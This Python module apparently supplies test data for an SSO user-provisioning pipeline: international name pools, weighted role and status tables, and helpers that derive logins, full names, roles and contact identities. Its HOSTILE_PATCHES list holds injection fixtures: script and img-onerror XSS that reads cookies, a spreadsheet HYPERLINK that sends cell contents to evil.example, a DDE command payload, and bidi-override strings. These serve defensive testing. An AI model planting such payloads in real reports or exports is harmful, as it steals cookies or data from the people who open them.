"""Name pools, hostile values and the pure rules Flex SSO applies when it writes a worker.

The pools are deliberately international (accents, apostrophes, multi-part names) because
the pipeline must compare names the way a human would, not byte by byte.
"""
from __future__ import annotations

import re
import unicodedata

FIRST_NAMES = (
    "José", "María", "Zoë", "Łukasz", "Søren", "Björn", "Chloé", "Aoife", "Siobhán", "Jürgen",
    "François", "Renée", "İbrahim", "Ólafur", "Ana", "Wei", "Yuki", "Priya", "Oluwaseun",
    "Mohammed", "Fatima", "Dmitri", "Ngozi", "Kwame", "Ana María", "Jean-Luc", "Mary Ann",
    "Zoltán", "Håkon", "Ingrid", "Mateo", "Camila", "Lucía", "Noah", "Olivia", "Liam", "Emma",
    "Sebastián", "Agnieszka", "Çağla", "Thảo", "Minh", "Hiroshi", "Saanvi", "Arjun", "Kofi",
    "Amara", "Nikolaj", "Eléonore", "Grégoire", "Małgorzata", "Tomáš", "Dóra", "Ørjan", "Leïla",
    "Jana", "Pedro", "João", "Rafael", "Sofía", "Élodie", "Seán", "Niamh", "Bartholomew", "Li",
)

LAST_NAMES = (
    "García", "Müller", "Nguyễn", "Østergaard", "Kowalski", "Ødegård", "Núñez", "O'Connor",
    "Smith", "van der Berg", "Dąbrowski", "Çelik", "Šťastný", "Johnson", "Okafor", "Mensah",
    "Tanaka", "Sato", "Patel", "Sharma", "Ivanova", "Petrov", "Haddad", "Al-Farsi", "Kim", "Lee",
    "Chen", "Wang", "Rossi", "Bianchi", "Fernández", "González", "Rodríguez", "López", "Martin",
    "Bernard", "Dubois", "Lefèvre", "Schröder", "Weiß", "Jørgensen", "Björklund", "Nieminen",
    "Virtanen", "Horváth", "Nagy", "Novák", "Dvořák", "Popescu", "Papadopoulos", "Yılmaz",
    "Öztürk", "MacDonald", "Ó Súilleabháin", "D'Angelo", "de la Cruz", "St. John", "Brown",
    "Wilson", "Taylor", "Davies", "Evans", "Thomas", "Roberts",
)

DEPARTMENTS = ("Support", "Sales", "Billing", "Retention", "Tier 2", "Workforce Mgmt", "QA")
TITLES = ("Agent", "Senior Agent", "Team Lead", "Supervisor", "Contact Center Manager", "Analyst")
SKILLS = ("english", "spanish", "french", "german", "billing", "tech", "sales", "vip", "chat")
CHANNELS = ("voice", "chat", "sms", "email", "whatsapp")
WFO_ROLES = ("wfo.full_access", "wfo.team_leader", "wfo.quality_manager", "wfo.dashboard_viewer")
VALID_ROLES = ("agent", "supervisor", "admin")

# userType values as admins really type them; weights are relative.  None means "absent".
USER_TYPES = (
    ("agent", 50), ("agent,supervisor", 9), ("supervisor", 7), ("admin", 3), ("agent,admin", 2),
    (" Admin , agent", 3), ("Agent", 3), ("agent, supervisor ", 3), ("supervisor,admin", 1),
    ("agent,,supervisor", 1), ("AGENT", 1), ("superuser", 2), ("agent;admin", 2), ("", 3),
    (None, 5),
)
INVALID_USER_TYPES = ("superuser", "agent;admin", "Manager", "root")

USER_STATUSES = (
    ("ACTIVE", 82), ("STAGED", 3), ("PROVISIONED", 3), ("SUSPENDED", 4), ("DEPROVISIONED", 4),
    ("LOCKED_OUT", 2), ("PASSWORD_EXPIRED", 2),
)
ALL_USER_STATUSES = frozenset(
    {"ACTIVE", "STAGED", "PROVISIONED", "SUSPENDED", "DEPROVISIONED", "LOCKED_OUT",
     "PASSWORD_EXPIRED", "RECOVERY"}
)
# Users in these statuses have signed in at least once, so SSO may have created a worker.
SIGNED_IN_STATUSES = frozenset({"ACTIVE", "SUSPENDED", "LOCKED_OUT", "PASSWORD_EXPIRED", "RECOVERY"})

# Hostile values planted in a few users.  Every one of them has bitten a real report or CSV.
HOSTILE_PATCHES = (
    {"firstName": "<script>alert(1)</script>"},
    {"lastName": "<img src=x onerror=alert(document.cookie)>"},
    {"firstName": '=HYPERLINK("http://evil.example/?q="&A1,"Click me")'},
    {"lastName": "+1+1"},
    {"firstName": "@SUM(1)"},
    {"lastName": "-2+3"},
    {"firstName": "Ann\x00\x07\x1b[31mRed\x1b[0m", "lastName": "Tab\tNew\nLine\r"},
    {"firstName": "x" * 5120},
    {"userType": 42},
    {"userType": ["agent", "admin"]},
    {"firstName": None},
    {"firstName": "Zero\u200bWidth", "lastName": "\u202eevil\u202c"},
    {"title": "=cmd|' /C calc'!A0", "department": "<b>bold</b>"},
)

_ASCII_FOLD = str.maketrans({"ł": "l", "Ł": "L", "ø": "o", "Ø": "O", "ß": "ss", "æ": "ae",
                             "Æ": "AE", "đ": "d", "Đ": "D", "ı": "i", "œ": "oe"})


def weighted_table(pairs) -> tuple[tuple, int]:
    """Expand (value, weight) pairs into a lookup tuple so a pick is one modulo."""
    table = tuple(v for v, w in pairs for _ in range(w))
    return table, len(table)


def ascii_slug(name: str) -> str:
    """`Łukasz Núñez` -> `lukasznunez`: the ASCII part of a login."""
    folded = unicodedata.normalize("NFKD", name.translate(_ASCII_FOLD))
    return "".join(c for c in folded if c.isascii() and c.isalnum()).lower()


def sso_full_name(first: object, last: object) -> str:
    """What Okta's `String.join(" ", user.firstName, user.lastName)` sends (nulls skipped)."""
    return " ".join(p for p in (first, last) if isinstance(p, str) and p != "")


def sso_roles(user_type: object) -> list[str]:
    """The valid Flex roles Flex keeps from a comma-separated userType claim, in order."""
    if isinstance(user_type, str):
        items = user_type.split(",")
    elif isinstance(user_type, list):
        items = [x for x in user_type if isinstance(x, str)]
    else:
        return []
    out: list[str] = []
    for item in items:
        role = item.strip().lower()
        if role in VALID_ROLES and role not in out:
            out.append(role)
    return out


_NON_ALNUM = re.compile(r"[^A-Za-z0-9]+")
_ASCII_ESCAPES = {c: f"_{c:02X}" for c in range(128) if not chr(c).isalnum()}


def contact_identity(email: str) -> str:
    """Flex's client identity: every non-alphanumeric byte becomes `_` + uppercase hex."""
    if email.isascii():
        return email.translate(_ASCII_ESCAPES)
    return _NON_ALNUM.sub(lambda m: "".join(f"_{b:02X}" for b in m.group().encode("utf-8")), email)


def swap_case_once(text: str) -> str:
    """Change the letter case of a string without changing it case-insensitively."""
    flipped = text.upper()
    return flipped if flipped != text else text.lower()
